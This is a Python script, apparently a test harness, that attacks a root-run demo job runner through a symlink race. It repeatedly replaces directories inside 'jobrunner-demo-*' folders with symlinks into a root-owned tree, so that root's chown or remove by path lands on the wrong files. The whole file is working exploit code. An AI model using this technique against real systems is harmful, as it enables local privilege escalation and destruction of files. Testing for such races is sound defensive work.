"""An attacker of the root demo's directory: run as the account the server runs as.

    python -c SOURCE WATCHED VICTIM STOP

In a tight loop until the file STOP exists, it looks in WATCHED for `jobrunner-demo-*`
directories and replaces every directory inside that it can with a symlink to the
directory of the same trailing path under VICTIM (a tree of root's that mirrors the names
of the demo's copy of the server binaries), so that root, chowning or removing by path,
would reach the victim's files instead. Standard library only: the account runs it with
whatever Python it can reach. Prints how many demo directories it saw.
"""

from __future__ import annotations

import contextlib
import os
import sys


def victim_directories(victim: str) -> set[tuple[str, ...]]:
    """The paths of VICTIM's directories, relative to it: looked up in memory, for speed."""
    found = set()
    for directory, _, _ in os.walk(victim):
        found.add(tuple(os.path.relpath(directory, victim).split(os.sep)))
    return found


def counterpart(victim: str, known: set[tuple[str, ...]], parts: list[str]) -> str | None:
    """VICTIM's directory with the longest trailing part of `parts` as its path, if any."""
    for start in range(len(parts)):
        if tuple(parts[start:]) in known:
            return os.path.join(victim, *parts[start:])
    return None


def attack(top: str, victim: str, known: set[tuple[str, ...]]) -> None:
    pending = [(top, [])]
    while pending:
        directory, parts = pending.pop(0)
        try:
            entries = list(os.scandir(directory))
        except OSError:
            continue  # not (or no longer) readable by this account
        for entry in entries:
            if not entry.is_dir(follow_symlinks=False) or entry.name.endswith(".moved"):
                continue
            path = [*parts, entry.name]
            target = counterpart(victim, known, path)
            if target is None:
                pending.append((entry.path, path))
                continue
            try:
                os.rename(entry.path, entry.path + ".moved")
            except OSError:
                pending.append((entry.path, path))
                continue
            with contextlib.suppress(OSError):  # root got there first
                os.symlink(target, entry.path)


def main(watched: str, victim: str, stop: str) -> None:
    seen: set[str] = set()
    known = victim_directories(victim)
    while not os.path.exists(stop):
        for name in os.listdir(watched):
            if name.startswith("jobrunner-demo-"):
                seen.add(name)
                attack(os.path.join(watched, name), victim, known)
    print(len(seen))


if __name__ == "__main__":
    main(*sys.argv[1:4])
